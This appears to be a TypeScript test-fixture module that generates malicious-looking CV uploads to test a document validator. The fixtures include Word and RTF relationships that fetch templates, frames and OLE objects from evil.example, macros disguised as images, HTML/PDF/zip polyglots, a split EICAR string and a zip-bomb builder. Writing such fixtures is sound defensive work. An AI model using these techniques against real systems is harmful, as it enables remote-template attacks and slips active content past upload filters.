import { type Zippable, zipSync } from "fflate";

const encode = (text: string) => new TextEncoder().encode(text);

const TYPES = `<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>`;
const zip = (entries: Zippable) => Buffer.from(zipSync(entries));

/** The smallest valid files. */
export const buildPdf = (filling = ""): Buffer =>
  Buffer.from(
    `%PDF-1.7\n%${filling}\n1 0 obj\n<<>>\nendobj\ntrailer\n<<>>\nstartxref\n9\n%%EOF\n`,
    "latin1",
  );

/** A PDF of an exact size. */
export const buildPdfOfSize = (bytes: number): Buffer =>
  buildPdf("x".repeat(bytes - buildPdf().length));

export const buildRtf = (): Buffer => Buffer.from("{\\rtf1\\ansi Mon CV\\par}\n", "latin1");

export const buildDocx = (more: Zippable = {}): Buffer =>
  zip({
    "[Content_Types].xml": encode(TYPES),
    "word/document.xml": encode("<w:document/>"),
    ...more,
  });

export const buildOdt = (
  mimetype = "application/vnd.oasis.opendocument.text",
  more: Zippable = {},
): Buffer =>
  zip({
    mimetype: [encode(mimetype), { level: 0 }],
    "content.xml": encode("<office:document-content/>"),
    ...more,
  });

/** Header of macros and embedded objects, whatever their part is called. */
export const COMPOUND_FILE = Buffer.concat([
  Buffer.from("d0cf11e0a1b11ae1", "hex"),
  Buffer.alloc(504),
]);

const typesWith = (more: string) => encode(TYPES.replace("</Types>", `${more}</Types>`));
const relations = (attributes: string) =>
  encode(
    `<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r1" ${attributes}/></Relationships>`,
  );
const OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships";
const MICROSOFT = "http://schemas.microsoft.com/office/2006/relationships";

/** Documents with active content. */
export const activeFiles: Readonly<Record<string, Buffer>> = {
  "macros under their usual name": buildDocx({ "word/vbaProject.bin": encode("x") }),
  "macros that call themselves a picture": buildDocx({ "word/media/logo.png": COMPOUND_FILE }),
  "a type of macros": buildDocx({
    "[Content_Types].xml": typesWith(
      `<Override PartName="/word/a.xml" ContentType="application/vnd.ms-office.vbaProject"/>`,
    ),
  }),
  "a type of macros in references": buildDocx({
    "[Content_Types].xml": typesWith(
      `<Override PartName="/word/a.xml" ContentType='application/vnd.ms-office.&#x76;b&#97;Project'/>`,
    ),
  }),
  "a type of its own entities": buildDocx({
    "[Content_Types].xml": encode(`<!DOCTYPE Types [<!ENTITY v "vba">]>${TYPES}`),
  }),
  "a document type with macros": buildDocx({
    "[Content_Types].xml": typesWith(
      `<Default Extension="xml" ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/>`,
    ),
  }),
  "a relationship to macros": buildDocx({
    "word/_rels/document.xml.rels": relations(`Target="a.xml" Type="${MICROSOFT}/vbaProject"`),
  }),
  "a relationship to macros after a sign in a value": buildDocx({
    "word/_rels/document.xml.rels": relations(
      `Title="a > b" Target="a.xml" Type="${MICROSOFT}/vbaProject"`,
    ),
  }),
  "lists in another encoding": buildDocx({
    "word/_rels/document.xml.rels": Buffer.from("<Relationships/>", "utf16le"),
  }),
  "a control": buildDocx({
    "word/_rels/document.xml.rels": relations(
      `Target="activeX/activeX1.xml" Type="${OFFICE}/control"`,
    ),
    "[Content_Types].xml": typesWith(
      `<Override PartName="/word/activeX/activeX1.xml" ContentType="application/vnd.ms-office.activeX+xml"/>`,
    ),
  }),
  "an embedded object": buildDocx({ "word/embeddings/object1.bin": COMPOUND_FILE }),
  "a linked object": buildDocx({
    "word/_rels/document.xml.rels": relations(
      `TargetMode="External" Target="https://evil.example/x.html!" Type="${OFFICE}/oleObject"`,
    ),
  }),
  "a template from the web": buildDocx({
    "word/_rels/settings.xml.rels": relations(
      `TargetMode="External" Target="https://evil.example/x.dotm" Type="${OFFICE}/attachedTemplate"`,
    ),
  }),
  "a template on a share": buildDocx({
    "word/_rels/settings.xml.rels": relations(
      `TargetMode="External" Target="\\\\evil.example@80\\DavWWWRoot\\x.dotm" Type="${OFFICE}/attachedTemplate"`,
    ),
  }),
  "a template on a share, as an address": buildDocx({
    "word/_rels/settings.xml.rels": relations(
      `TargetMode="External" Target="file://evil.example/x.dotm" Type="${OFFICE}/attachedTemplate"`,
    ),
  }),
  "a frame fetched from a share": buildDocx({
    "word/_rels/webSettings.xml.rels": relations(
      `TargetMode="External" Target="//evil.example/x.docx" Type="${OFFICE}/frame"`,
    ),
  }),
  "a template on a share in RTF": Buffer.from(
    "{\\rtf1\\ansi {\\*\\template \\\\\\\\evil.example\\\\x.dotm}}\n",
    "latin1",
  ),
  "macros in a table behind a chart": buildDocx({
    "word/embeddings/table.xlsx": zip({ "xl/media/image1.png": COMPOUND_FILE }),
  }),
  "what is packed in an unknown way": packedOtherwise(buildDocx()),
  "OpenDocument macros": buildOdt(undefined, { "Basic/Standard/Module1.xml": encode("<script/>") }),
  "an OpenDocument object": buildOdt(undefined, { "Object 1": COMPOUND_FILE }),
  "an object in RTF": Buffer.from("{\\rtf1\\ansi {\\object\\objemb{\\*\\objdata 01}}}\n", "latin1"),
  "a template from the web in RTF": Buffer.from(
    "{\\rtf1\\ansi {\\*\\template https://evil.example/x.dotm}}\n",
    "latin1",
  ),
};

/** Documents that resemble active content but are harmless. */
export const harmlessFiles: Readonly<Record<string, Buffer>> = {
  "a PDF with bytes a scanner left behind its end": Buffer.concat([
    buildPdf(),
    Buffer.from([0x1a, 0x00, 0xff, 0x0d, 0x0a]),
    Buffer.from("Scanned by Example 3000\r\n".repeat(8)),
  ]),
  "a template on one's own disk": buildDocx({
    "word/_rels/settings.xml.rels": relations(
      `TargetMode="External" Target="file:///C:\\Modeles\\CV.dotm" Type="${OFFICE}/attachedTemplate"`,
    ),
  }),
  "a link to a page about macros": buildDocx({
    "word/_rels/document.xml.rels": relations(
      `TargetMode="External" Target="https://example.org/vbaProject-activeX" Type="${OFFICE}/hyperlink"`,
    ),
  }),
  "a table behind a chart": buildDocx({
    "word/embeddings/table.xlsx": zip({ "xl/workbook.xml": encode("<workbook/>") }),
  }),
  "a text about objects": Buffer.from("{\\rtf1\\ansi objdata template\\par}\n", "latin1"),
};

const HTML = Buffer.from("<html><script>alert(1)</script></html>");

/** Files that pretend to be a CV. */
export const deceivingFiles: Readonly<Record<string, Buffer>> = {
  "a page of HTML": HTML,
  "a text": Buffer.from("Mon CV"),
  "a PDF after a page of HTML": Buffer.concat([HTML, buildPdf()]),
  "a PDF before a page of HTML": Buffer.concat([buildPdf(), HTML]),
  "a PDF that is also a zip": Buffer.concat([buildPdf(), buildDocx()]),
  "a document before a page of HTML": Buffer.concat([buildDocx(), HTML]),
  "a document after a page of HTML": Buffer.concat([HTML, buildDocx()]),
  "a document with a comment of HTML": commented(buildDocx(), HTML),
  "an RTF before a page of HTML": Buffer.concat([buildRtf(), HTML]),
  "a zip of nothing in particular": zip({ "word/document.xml": encode("x") }),
  "a spreadsheet": buildOdt("application/vnd.oasis.opendocument.spreadsheet"),
  "an OpenDocument text that hides its type": zip({
    "content.xml": encode("x"),
    mimetype: encode("application/vnd.oasis.opendocument.text"),
  }),
  "half a document": buildDocx().subarray(0, -30),
  "a program": Buffer.from("MZ\u0090\u0000"),
};

/** Adds a comment to a zip file: bytes with arbitrary content. */
function commented(file: Buffer, comment: Buffer): Buffer {
  const copy = Buffer.concat([file, comment]);
  copy.writeUInt16LE(comment.length, file.length - 2);
  return copy;
}

/** The second entry claims a compression method that documents do not use. */
function packedOtherwise(file: Buffer): Buffer {
  const copy = Buffer.from(file);
  const second = copy.indexOf("PK\u0001\u0002", copy.indexOf("PK\u0001\u0002") + 4, "latin1");
  copy.writeUInt16LE(12, second + 10);
  return copy;
}

/** The EICAR test virus, in pieces, so that scanners do not report this file. */
export const EICAR = [
  "X5O!P%@AP[4\\PZX54(P^)7CC)7}",
  "$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*",
].join("");

/** A nested archive listed under many names with the same bytes. */
export function buildNestedBomb({ listed, inner }: { listed: number; inner: number }): Buffer {
  const file = buildDocx(buildArchives({ archives: 1, entries: inner }));
  const list = file.readUInt32LE(file.length - 6);
  const last = file.lastIndexOf("PK\u0001\u0002", undefined, "latin1");
  const entry = file.subarray(last, file.length - 22);
  const end = Buffer.from(file.subarray(file.length - 22));
  const more = Buffer.concat(Array.from({ length: listed }, () => entry));
  end.writeUInt16LE(end.readUInt16LE(10) + listed, 8);
  end.writeUInt16LE(end.readUInt16LE(10) + listed, 10);
  end.writeUInt32LE(file.length - 22 - list + more.length, 12);
  return Buffer.concat([file.subarray(0, -22), more, end]);
}

/** Archives of empty entries, to be put into a document. */
export function buildArchives({
  archives,
  entries,
}: {
  archives: number;
  entries: number;
}): Zippable {
  const names = Array.from({ length: entries }, (_, index) => [`${index}`, new Uint8Array(0)]);
  const archive = new Uint8Array(zipSync(Object.fromEntries(names), { level: 0 }));
  return Object.fromEntries(
    Array.from({ length: archives }, (_, index) => [`word/embeddings/${index}.xlsx`, archive]),
  );
}
